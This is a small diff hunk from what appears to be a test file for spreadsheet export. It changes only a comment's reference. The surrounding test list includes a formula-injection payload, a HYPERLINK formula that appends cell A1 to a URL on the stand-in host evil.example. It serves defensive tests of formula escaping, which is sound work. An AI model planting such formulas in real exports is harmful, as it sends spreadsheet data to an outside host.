@@ -15,7 +15,7 @@ import xlrd
 from core.spreadsheets import writing
 from core.spreadsheets.writing import ExportTooLarge, get_writer
 
-# Every start a spreadsheet reads as a formula (SPEC §4), as a clerk could have typed it.
+# Every start a spreadsheet reads as a formula (README), as a clerk could have typed it.
 FORMULA_LIKE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
     "+62 711 123456",
